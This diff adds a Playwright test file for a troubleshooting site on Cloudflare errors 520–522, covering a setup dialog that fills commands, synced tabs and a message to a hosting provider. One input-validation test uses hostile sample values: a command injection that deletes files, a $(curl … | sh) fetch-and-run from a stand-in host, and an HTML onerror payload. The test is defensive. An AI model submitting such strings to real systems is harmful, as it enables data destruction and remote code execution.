@@ -1,0 +1,116 @@
+import { expect, test, type Page } from './fixtures/test';
+
+/** Opens "Your setup" from a code block's "use yours" button. */
+async function openSetup(page: Page) {
+	await page.locator('[data-open-setup]').first().click();
+	const dialog = page.getByRole('dialog', { name: 'Your setup' });
+	await expect(dialog).toBeVisible();
+	return dialog;
+}
+
+test.describe('your setup', () => {
+	test('values set on one page fill the copied commands on another', async ({ page, context }) => {
+		await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+		await page.goto('/521/');
+		const dialog = await openSetup(page);
+		await dialog.getByRole('textbox', { name: 'Hostname' }).fill('shop.example.net');
+		await dialog.getByRole('textbox', { name: 'Origin IPv4 address' }).fill('198.51.100.7');
+		await dialog.getByRole('button', { name: 'Save' }).click();
+		await expect(dialog).toBeHidden();
+		await expect(page.locator('var[data-ph="hostname"]').first()).toHaveText('shop.example.net');
+
+		await page.goto('/522/');
+		const block = page.locator('copy-code:has(var[data-ph="origin-ipv4"])').first();
+		await block.scrollIntoViewIfNeeded();
+		await expect(block.locator('var[data-ph="origin-ipv4"]').first()).toHaveText('198.51.100.7');
+		await expect(block.locator('var[data-ph="origin-ipv4"]').first()).toHaveClass(/is-filled/);
+		await block.getByRole('button', { name: 'Copy' }).click();
+		const copied = await page.evaluate(() => navigator.clipboard.readText());
+		expect(copied).toContain('198.51.100.7');
+		expect(copied).not.toContain('203.0.113.10');
+	});
+
+	test('refuses values that would change a command, and shows them only as text', async ({ page }) => {
+		const dialogs: string[] = [];
+		page.on('dialog', (d) => {
+			dialogs.push(d.message());
+			void d.dismiss();
+		});
+		await page.goto('/521/');
+		const dialog = await openSetup(page);
+		const hostname = dialog.getByRole('textbox', { name: 'Hostname' });
+		for (const evil of ['example.com; rm -rf /', '$(curl -s evil.example | sh)', '<img src=x onerror=alert(1)>']) {
+			await hostname.fill(evil);
+			await expect(hostname).toHaveAttribute('aria-invalid', 'true');
+			await expect(dialog.locator('#setup-hostname-error')).toContainText('Not saved');
+		}
+		await dialog.getByRole('button', { name: 'Save' }).click();
+		await expect(dialog.getByRole('status')).toHaveText('Fix the marked fields: nothing was saved.');
+		await dialog.getByRole('button', { name: 'Close' }).click();
+		await expect(page.locator('var[data-ph="hostname"]').first()).toHaveText('www.example.com');
+		expect(await page.evaluate(() => localStorage.getItem('setup'))).toBeNull();
+		await expect(page.locator('main img[src="x"]')).toHaveCount(0);
+		expect(dialogs).toEqual([]);
+	});
+
+	test('the stack chosen in the setup opens every set of tabs on it', async ({ page }) => {
+		await page.goto('/521/');
+		const dialog = await openSetup(page);
+		await dialog.getByRole('combobox', { name: 'Web server' }).selectOption('apache');
+		await dialog.getByRole('button', { name: 'Save' }).click();
+		const tabs = page.locator('stack-tabs[data-sync="webserver"]').first();
+		await tabs.scrollIntoViewIfNeeded();
+		await expect(tabs.getByRole('tab', { name: 'Apache' })).toHaveAttribute('aria-selected', 'true');
+		await page.goto('/520/');
+		const other = page.locator('stack-tabs[data-sync="webserver"]').first();
+		await other.scrollIntoViewIfNeeded();
+		await expect(other.getByRole('tab', { name: 'Apache' })).toHaveAttribute('aria-selected', 'true');
+	});
+
+	test('clears everything with one action', async ({ page }) => {
+		await page.goto('/521/');
+		let dialog = await openSetup(page);
+		await dialog.getByRole('textbox', { name: 'Hostname' }).fill('shop.example.net');
+		await dialog.getByRole('button', { name: 'Save' }).click();
+		dialog = await openSetup(page);
+		await dialog.getByRole('button', { name: 'Clear everything' }).click();
+		await expect(dialog.getByRole('status')).toContainText('Cleared');
+		expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k === 'setup' || k.startsWith('stack:')))).toEqual([]);
+		await expect(page.locator('var[data-ph="hostname"]').first()).toHaveText('www.example.com');
+	});
+});
+
+test.describe('the message to your host', () => {
+	test('contains exactly what was entered, the time with its zone, and the facts for the code', async ({ page, context }) => {
+		await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+		await page.goto('/521/#message-to-your-host');
+		const message = page.locator('host-message');
+		await page.getByText('Write the message to your hosting provider').click();
+		await message.getByRole('textbox', { name: 'Failing URL' }).fill('https://shop.example.net/cart');
+		await message.getByRole('textbox', { name: /Ray ID/ }).fill('8a2b3c4d5e6f7a8b-FRA');
+		await message.getByRole('textbox', { name: /checked already/ }).fill('nginx runs and listens on 443');
+		const text = message.locator('.host-message__text');
+		await expect(text).toContainText('Visitors to https://shop.example.net/cart get error 521');
+		await expect(text).toContainText('Ray ID: 8a2b3c4d5e6f7a8b-FRA');
+		await expect(text).toContainText('nginx runs and listens on 443');
+		await expect(text).toContainText('https://www.cloudflare.com/ips/');
+		await expect(text).toContainText(/\d{4}-\d\d-\d\d \d\d:\d\d \(.+, UTC[+-]\d\d:\d\d\)/);
+		await message.getByRole('textbox', { name: /Ray ID/ }).fill('<b>nope</b>');
+		await expect(message.locator('.host-message__error')).toContainText('Left out');
+		await expect(text).not.toContainText('nope');
+		await expect(message.getByRole('link', { name: /email program/ })).toBeHidden();
+		await message.getByRole('button', { name: 'Make an email link' }).click();
+		await expect(message.getByRole('link', { name: /email program/ })).toHaveAttribute('href', /^mailto:\?subject=Error%20521/);
+	});
+
+	test('at a troubleshooter outcome, lists the answers given so far', async ({ page, wizard }) => {
+		await wizard.goto();
+		const outcome = (await wizard.stepIds('outcome'))[0]!;
+		for (const answer of await wizard.routeTo(outcome)) await wizard.choose(answer);
+		await wizard.expectAt(outcome);
+		await wizard.currentStep.getByText(/Write the message to/).click();
+		const checked = wizard.currentStep.getByRole('textbox', { name: /checked already/ });
+		await expect(checked).toHaveValue(/^- /);
+		expect((await checked.inputValue()).split('\n')).toHaveLength(await wizard.pathSoFar.count());
+	});
+});
